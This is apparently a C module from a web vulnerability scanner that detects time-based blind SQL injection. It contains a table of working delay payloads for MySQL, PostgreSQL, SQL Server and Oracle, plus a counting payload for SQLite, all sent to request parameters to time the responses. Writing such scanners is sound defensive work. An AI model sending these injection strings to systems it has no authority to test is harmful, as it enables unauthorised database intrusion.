/* Active: SQL injection told by time alone. The delay stands in a subselect that does not
 * depend on the row, so that it is waited for once and not per row, and never behind OR. One
 * request serves all three ways of quoting where the database allows it. */
#include "base/check.h"
#include "scan/checks/active_private.h"
#include "scan/diff.h"
#include "scan/timing.h"

/* {0} the value, {1} seconds. */
struct delay {
	const char *dbms, *form;
	enum scan_mode from;
	enum { ANY, NUMBER, WORD } fits;
};
#define MYSQL "(SELECT a FROM(SELECT SLEEP({1})a)z)"
#define PG "(SELECT CAST(pg_sleep({1}) AS text))"
#define ORA "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('z',{1}) FROM DUAL)"
static const struct delay delays[] = {
	{ "MySQL", "{0}-" MYSQL "/*'XOR" MYSQL "XOR'\"XOR" MYSQL "XOR\"*/", SCAN_STANDARD, ANY },
	{ "MySQL", "{0}'||" MYSQL "||'", SCAN_STANDARD, ANY },
	{ "MySQL", "{0}\" AND " MYSQL "IS NOT NULL AND \"1\"=\"1", SCAN_STANDARD, WORD },
	{ "PostgreSQL", "{0}-LENGTH(" PG ")", SCAN_STANDARD, NUMBER },
	{ "PostgreSQL", "{0}'||" PG "||'", SCAN_STANDARD, ANY },
	{ "SQL Server", "{0}';WAITFOR DELAY '0:0:{1}'-- -", SCAN_STANDARD, ANY },
	{ "SQL Server", "{0};WAITFOR DELAY '0:0:{1}'-- -", SCAN_STANDARD, NUMBER },
	{ "MySQL", "{0} AND " MYSQL "IS NOT NULL", SCAN_DEEP, NUMBER },
	{ "MySQL", "{0}' AND " MYSQL "IS NOT NULL AND '1'='1", SCAN_DEEP, ANY },
	{ "MySQL", "{0}%' AND " MYSQL "IS NOT NULL AND '1%'='1", SCAN_DEEP, WORD },
	{ "Oracle", "{0}'||" ORA "||'", SCAN_DEEP, ANY },
	{ "Oracle", "{0}-" ORA, SCAN_DEEP, NUMBER },
	{ "MySQL", "{0}') AND " MYSQL "IS NOT NULL AND ('1'='1", SCAN_DEEP, ANY },
	{ "MySQL", "{0}) AND (" MYSQL "IS NOT NULL", SCAN_DEEP, NUMBER },
	{ "PostgreSQL", "{0}' AND " PG "IS NOT NULL-- -", SCAN_DEEP, ANY },
	{ "PostgreSQL", "{0}') AND " PG "IS NOT NULL-- -", SCAN_DEEP, ANY },
	{ "PostgreSQL", "{0}';SELECT pg_sleep({1})-- -", SCAN_DEEP, ANY },
	{ "SQL Server", "{0}');WAITFOR DELAY '0:0:{1}'-- -", SCAN_DEEP, ANY },
	{ "SQL Server", "{0});WAITFOR DELAY '0:0:{1}'-- -", SCAN_DEEP, NUMBER },
};

static void render(struct probe *p, void *ctx, unsigned seconds, struct scan_mutation *m)
{
	const struct delay *d = ctx;
	struct str args[] = { probe_point(p)->value, probe_printf(p, "%u", seconds) };
	m->value = active_fill(p, d->form, args);
	m->value_set = true;
}

/* SQLite has no way to wait: it counts, as far as it gets in a second. */
struct counting {
	const char *form;
	double per_second;
};
#define COUNT "(WITH RECURSIVE z(a) AS (SELECT 1 UNION ALL SELECT a+1 FROM z LIMIT {1}) SELECT COUNT(*) FROM z)"

static void render_count(struct probe *p, void *ctx, unsigned seconds, struct scan_mutation *m)
{
	const struct counting *c = ctx;
	struct str args[] = { probe_point(p)->value, probe_printf(p, "%.0f", c->per_second * seconds * 1.05 + 1) };
	m->value = active_fill(p, c->form, args);
	m->value_set = true;
}

static void report(struct probe *p, const char *dbms, const struct timing *t)
{
	probe_report(p, &(struct scan_report){
				.exchange = t->x,
				.proof = t->sent,
				.confidence_set = true,
				.confidence = CONFIDENCE_CERTAIN,
				.detail_zh = probe_printf(p, "%s 数据库执行了参数中的延时语句。%.*s", dbms, STR_ARG(timing_zh(p, t))),
				.detail_en = probe_printf(p, "The %s database obeys a delay in the parameter. %.*s", dbms,
							  STR_ARG(timing_en(p, t))),
			});
}

static bool try_sqlite(struct probe *p, const struct scan_point *pt)
{
	static const char *const forms[] = { "{0}' AND " COUNT ">0 AND '1'='1", "{0} AND " COUNT ">0" };
	for (size_t i = active_plain_number(pt->value) ? 0 : 0; i < ARRAY_SIZE(forms); i++) {
		struct counting c = { forms[i], 1000000 };
		struct scan_mutation m = { .fresh = true };
		const struct scan_exchange *x;
		struct timing t;
		if (i == 1 && !active_plain_number(pt->value))
			break;
		render_count(p, &c, 2, &m);
		if (probe_send(p, &m, &x) < 0)
			return false;
		double extra = (double)(x->ttfb_us - pt->base->ttfb_us) / 1e6;
		if (extra < 0.15 || extra > 10)
			continue;
		c.per_second = 2000000 / extra;
		if (probe_time_dependent(p, render_count, &c, &t)) {
			report(p, "SQLite", &t);
			return true;
		}
	}
	return false;
}

static void probe_time(struct probe *p, const struct scan_point *pt)
{
	bool number = active_plain_number(pt->value);
	struct timing t;
	if (probe_reported(p) || probe_point_found(p, "sqli-error") || probe_point_found(p, "sqli-boolean") ||
	    probe_point_found(p, "sqli-union"))
		return;
	if (pt->value.len > 200 || (probe_mode(p) != SCAN_DEEP && pt->where == WHERE_HEADER && !active_own_header(pt)))
		return;
	/* a page that shows what the value finds would have shown a condition too: then only the
	 * statement that serves all ways of quoting, and what starts a statement of its own */
	struct diff_side base = diff_base(pt);
	bool shows = probe_mode(p) != SCAN_DEEP && probe_stable(p) && diff_depends(p, &base);
	for (size_t i = 0; i < ARRAY_SIZE(delays); i++) {
		struct delay d = delays[i];
		if (shows && i > 0 && !strstr(d.form, "WAITFOR"))
			continue;
		if (d.from > probe_mode(p) || (d.fits == NUMBER && !number) || (d.fits == WORD && number))
			continue;
		/* programs in PHP rarely speak to these */
		if ((strcmp(d.dbms, "SQL Server") == 0 || strcmp(d.dbms, "Oracle") == 0) &&
		    !probe_stack(p, STACK_JAVA | STACK_DOTNET | STACK_OTHER))
			continue;
		if (!probe_time_dependent(p, render, &d, &t))
			continue;
		report(p, d.dbms, &t);
		return;
	}
	if (probe_mode(p) == SCAN_DEEP)
		try_sqlite(p, pt);
}

const struct scan_check check_sqli_time = {
	.id = "sqli-time",
	.title_zh = "SQL 注入（时间型）",
	.title_en = "SQL injection (time based)",
	.severity = SEVERITY_CRITICAL,
	.cwe = 89,
	.owasp = "A03:2021",
	.modes = SCAN_STANDARD_UP,
	.on_point = probe_time,
};
